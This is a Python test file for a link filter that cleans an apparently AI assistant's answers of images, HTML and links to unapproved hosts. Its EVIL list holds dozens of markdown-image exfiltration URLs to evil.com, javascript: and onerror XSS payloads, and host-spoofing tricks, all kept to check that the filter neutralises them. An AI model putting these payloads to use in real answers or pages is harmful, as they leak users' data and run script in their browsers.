"""Answers without links, images and markup (A40, A41): what leaves the filter, as independent renderers read it."""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agent.links import MAX_HELD, LinkFilter
from schemas.linktext import defanged

ALLOWED = ("estate.example", "pay.estate.example:8443")
REMOVED = "〔省略〕"
RENDERERS = [MarkdownIt("gfm-like"), MarkdownIt("commonmark", {"html": True, "linkify": True}).enable("linkify")]


def clean(text: str, hosts: tuple[str, ...] = ALLOWED) -> str:
    return LinkFilter(hosts, REMOVED).clean(text)


def tokens(tree: list[Token]) -> Iterator[Token]:
    for token in tree:
        yield token
        yield from tokens(token.children or [])


def loaded_or_linked(text: str) -> list[str]:
    """What renderers make of `text` beyond words: images, tags, and links that do not go to an allowed host. A mail
    address alone is a link that sends nothing by itself."""
    found = []
    for renderer in RENDERERS:
        for token in tokens(renderer.parse(text)):
            if token.type == "image" or token.type.startswith("html_"):
                found.append(f"{token.type} {token.content}")
            elif token.type == "link_open":
                href = str(token.attrs["href"])
                parts = urlsplit(href)
                plain_mail = parts.scheme == "mailto" and "?" not in href
                if not plain_mail and (parts.scheme not in ("http", "https") or parts.netloc.lower() not in ALLOWED):
                    found.append(href)
    for address in re.findall(r"https?://[^\s<>]+", html.unescape(text), re.IGNORECASE):
        # cmark reads on to the next blank, whatever stands there (no browser reads a host with an angle)
        host = re.split(r"[/?#\\]", address.split("://", 1)[1])[0].rstrip(".,;:?!'\")]*_~").lower()
        if host not in ALLOWED:
            found.append(address)
    return found


EVIL = [
    "![x](https://evil.com/?d=bill)",
    '![x](https://evil.com/?d=bill "title")',
    "![x]( <https://evil.com/?d=1> 'title' )",
    "![a [b] c](https://evil.com/?d=1)",
    "![a \\] c](https://evil.com/?d=1)",
    "![a\nb](\nhttps://evil.com/?d=1\n)",
    "![x](https://estate.example/logo.png)",
    "![x][y]\n\n[y]: https://evil.com/?d=1",
    "![y][]\n\n[y]:\nhttps://evil.com/?d=1\n'title'",
    "![y]\n\n > [y]: <https://evil.com/?d=1>",
    "- [a\r\nb]: https://evil.com/?d=1\n\n[a b]",
    "[x](https://evil.com/?d=1)",
    "[x](//evil.com/?d=1)",
    "[x](/\\evil.com)",
    "[x](\\\\evil.com)",
    "[x](https:\\/\\/evil.com)",
    "[x](&#104;ttps://evil.com)",
    "[x](https&colon;//evil.com)",
    "[x](%68ttps://evil.com)",
    "[x](HTTPS://EVIL.COM)",
    "[x](https://estate.example@evil.com/)",
    "[x](https://estate.example.evil.com/)",
    "[x](https://estate.example\\@evil.com/)",
    "[x](https://estate.example.:443@evil.com/)",
    "[x](https://еstate.example/)",  # the first letter is Cyrillic
    "[x](https://estate.example./)",
    "[x](https://estate.example:8080/)",
    "[x](http://[::1]/)",
    "[x](http://2130706433/)",
    "[x](java\tscript:alert(1))",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](weixin://dl/business/?t=1)",
    "[a [b](https://evil.com) c](https://evil.com)",
    "[a `]`](https://evil.com)",
    "[a](https://estate.example/ok) [b](https://evil.com/)",
    "[![a](https://evil.com/i.png)](https://evil.com)",
    "[x](https://evil.com/(a(b)c)?d=1 (title))",
    "[x](https://evil.com 'a\nb')",
    "<https://evil.com/?d=1>",
    "<HTTPS://evil.com/?d=1>",
    "<javascript:alert(1)>",
    "https://evil.com/?d=1",
    "请打开https://evil.com/?d=1缴费。",
    "hTTp://evil.com/?d=1.",
    "https://例子.中国/?d=1",
    "https://estate.example。evil.com/",
    "https://estate.example@evil.com/?d=1",
    'https://"a"@evil.com/?d=1',
    "https://estate.example!evil.com/?d=1",
    "https://estate.example/!!evil.com/?d=1",
    "https://estate.example*evil.com",
    "https://estate.example)evil.link/x",
    "https://estate.example/_evil.com_",
    "https://estate.example/?a=1&#33;&#33;evil.com",
    "&#104;ttps://evil.com/?d=1",
    "https&colon;//evil&period;com/?d=1",
    "https:\\/\\/evil.com/?d=1",
    "ftp://evil.com/x",
    "//evil.com/?d=1",
    "www.evil.com/?d=1",
    "WWW.evil.com",
    "evil.com/?d=1",
    "secret.evil.com",
    "例子.com/?d=1",
    "пример.рф",
    "mailto:a@evil.com?body=secret",
    "http://127.0.0.1:8001/x",
    "ht[tps](a.b)://evil.com/?d=1",
    "e[vil](a.b).c![](a.b)om/?d=1",
    "<[img src=x onerror=alert(1)](a.b)>",
    "[x][(https://evil.com)](a.b)",
    "<img src=https://evil.com/?d=1>",
    "<img src=x onerror=alert(1)>",
    "<IMG\nSRC='https://evil.com/?d=1'\n>",
    "<a href='https://evil.com'>x</a>",
    "<script>fetch('https://evil.com')</script>",
    "<div onmouseover='alert(1)'",
    "<!-- x --><![CDATA[x]]><?php x ?>",
    "<svg/onload=alert(1)>",
    "</a><iframe src=//evil.com>",
    "<details open ontoggle=alert(1)>",
    "[" * 50 + "x" + "](https://evil.com)" * 50,
    "![" + "a" * 3000 + "](https://evil.com/?d=1)",
    "[x](https://evil.com/" + "d" * 5000 + ")",
    "https://evil.com/" + "d" * 5000,
    "<https://evil.com/" + "d" * 5000 + ">",
    "a" * 2044 + ".com/?d=1",
    "a" * 2046 + "evil.com/?d=1",
]


@pytest.mark.parametrize("text", EVIL)
def test_nothing_is_loaded_and_no_link_leads_outside(text: str) -> None:
    """A40, A41: the renderers see danger in the text itself, and none in what leaves."""
    for before, after in (("", ""), ("- 物业费 ", " 元\n\n完"), ("> ", "\n\nx")):
        assert loaded_or_linked(clean(before + text + after)) == []


def test_the_renderers_would_load_and_link_them() -> None:
    """The check of these tests can fail: most of the texts are dangerous to these very renderers."""
    assert sum(bool(loaded_or_linked(text)) for text in EVIL) > 70


PARTS = re.split(
    r"\s",
    """[ ] ( ) < > ! ![ ]( ]: ][ \\ / // : . @ # ? & ; " ' ` ``` * ** _ ~~ | = - + 1. {
http https:// HTTPS:// www. evil evil.com .com com /?d=1 estate.example https://estate.example
https://estate.example/a [a](https://estate.example/b) javascript: data: mailto: a@evil.com localhost
&#104; &colon; &period; &#x2F; &lt; img src=x onerror= script <img <a </ <!-- --> 物业 。 ， 例子 😀 .рф [x]: x""",
)
BLANKS = [" ", "\n", "\n\n", "\t", "\r", "\r\n", "    ", "\x01", "\u200b", "> "]
PIECES = st.sampled_from(PARTS + BLANKS)
TEXTS = st.lists(PIECES, max_size=24).map("".join)


@settings(max_examples=3000, deadline=None)
@given(TEXTS)
@example("https://estate.example/a__evil.com__")
@example("//?d=1>a@evil.com")
def test_no_combination_of_the_parts_makes_a_link(text: str) -> None:
    """A40: whatever stands beside whatever, the renderers find nothing to load and no link outside."""
    assert loaded_or_linked(clean(text)) == [], clean(text)


@settings(max_examples=1500, deadline=None)
@given(TEXTS, st.data())
def test_how_a_text_is_cut_makes_no_difference(text: str, data: st.DataObject) -> None:
    """The pieces of a stream are cut anywhere: what leaves in all is the same."""
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    stream = LinkFilter(ALLOWED, REMOVED, max_held=40)
    pieces = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert "".join(map(stream.push, pieces)) + stream.flush() == LinkFilter(ALLOWED, REMOVED, max_held=40).clean(text)


@settings(max_examples=1500, deadline=None)
@given(TEXTS, TEXTS)
@example("!", "[a](https://estate.example/b)")
@example("//例子", "a@evil.com")
def test_an_answer_that_goes_on_after_a_cut_is_judged_whole(first: str, second: str) -> None:
    """A step that its length ends may stop in the middle of an address; the next one goes on with it."""
    stream = LinkFilter(ALLOWED, REMOVED)
    text = stream.clean(first) + stream.clean(second)
    assert loaded_or_linked(text) == [], text


@settings(max_examples=1500, deadline=None)
@given(TEXTS)
@example("<www.例子")
@example("](//\\\\<")
def test_what_left_once_leaves_again(text: str) -> None:
    """A text that is clean stays as it is, so that it may pass more than one hand."""
    once = clean(text)
    assert clean(once) == once


@settings(max_examples=1500, deadline=None)
@given(TEXTS)
@example("@localhost/?d=1")
def test_a_defanged_text_makes_no_link_and_passes_the_filter_unchanged(text: str) -> None:
    """What a resident is shown of a write is exact, and the same for every client."""
    shown = "• 说明：" + defanged(re.sub(r"[\x00-\x1f\u200b]", " ", text))
    assert loaded_or_linked(shown) == [], shown
    assert LinkFilter((), REMOVED, max_held=len(shown) + 1).clean(shown) == shown


PLAIN = [
    "您 2026 年 11 月的物业费是 356.20 元，截止日期 2026-11-30。",
    "停车时间 8:00-20:30，共 2 次；车牌 粤B12345（月卡）。",
    "您有 [2] 张账单，区间 [0, 100)，数组 a[0][1]。",
    "维修单 BX20261122-0007 已受理！[查看] 请等待。",
    "1. 缴费/查询\n2. A/B 栋\n3. 单价 3.5 元/平方米\n",
    "- **合计**：`100.00` 元\n- _备注_: 无\n\n| 项目 | 金额 |\n|---|---|\n| 水费 | 12.30 |\n",
    "1<2, a < b, x<=y, <温度>, a & b, AT&T; 100%",
    "e.g. the U.S.A. version 1.2.3 costs $5 (see note 4). Done: yes! Really?",
    "请联系 wuye@estate.example 或 400-800-1234。",
    "文件 收据.pdf 与 invoice_2026.xlsx",
    "```\nfor i in range(3): print(i)\n```\n",
    "Math: 3/4, 24/7, and/or, 10.5/m2; ratio 1:2",
    "表情 👨‍👩‍👧 和 “引号” ——",
    "[点此](https://estate.example/pay?a=1&b=2,3#top) 缴费，或 https://pay.estate.example:8443/x 。",
    '<https://estate.example/pay> [a](http://estate.example "说明") https://estate.example.',
]


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_and_allowed_links_are_unchanged(text: str) -> None:
    """Prose, brackets, code, tables, numbers, mail addresses and links to allowed hosts stay as they are."""
    assert clean(text) == text


@given(st.text(alphabet="abc 物业费。，：（）!? 0123\n|*_`-'\"%", max_size=200))
def test_prose_is_unchanged(text: str) -> None:
    """Text without brackets, angles, slashes and dots has nothing that could be taken out."""
    assert clean(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("请[点此缴费](https://evil.com/p)。", "请点此缴费。"),
        ("图：![账单](https://evil.com/?d=1)。", "图：。"),
        ("访问 https://evil.com/p, 谢谢", "访问 〔省略〕, 谢谢"),
        ("见 <https://evil.com/p>。", "见 〔省略〕。"),
        ("<b>重要</b>", "< b>重要< /b>"),
        ("paid.It is done", "paid. It is done"),
        ("[注](见合同)", "[注] (见合同)"),
        ("[1]: https://evil.com", "[1] : 〔省略〕"),
    ],
)
def test_what_is_taken_out_leaves_the_words(text: str, shown: str) -> None:
    """A label stays, an image goes whole, an address is replaced by a sign of it, markup is text."""
    assert clean(text) == shown


@pytest.mark.parametrize("text", ["您的物业费", "[", "数组[1]：", "a [b", "物业费 100 元"])
def test_prose_streams_at_once(text: str) -> None:
    """What cannot become a link is not held back for longer than a word, a label or a line."""
    stream = LinkFilter(ALLOWED, REMOVED)
    assert stream.push(text + "\n") == text + "\n"


def test_chinese_prose_is_never_held() -> None:
    """Each Chinese character leaves with the piece that brought it."""
    stream = LinkFilter(ALLOWED, REMOVED)
    for sign in "您的物业费账单已经出来了，一共（三）笔。":
        assert stream.push(sign) == sign


@pytest.mark.parametrize("text", ["a", "[", "![", "](", "[a](", "<a", "https://evil.com/", "[a](<", '[a](b "'])
def test_what_is_held_back_is_bounded(text: str) -> None:
    """However long an unfinished part grows, no more than the limit is kept."""
    stream = LinkFilter(ALLOWED, REMOVED)
    stream.push(text)
    for _ in range(20):
        stream.push("d" * 1000)
        assert len(stream._held) + len(stream._pending) <= MAX_HELD


def test_without_hosts_no_link_stays() -> None:
    """The default allows none."""
    assert clean("[a](https://estate.example/)", ()) == "a"
    assert clean("https://estate.example/", ()) == REMOVED
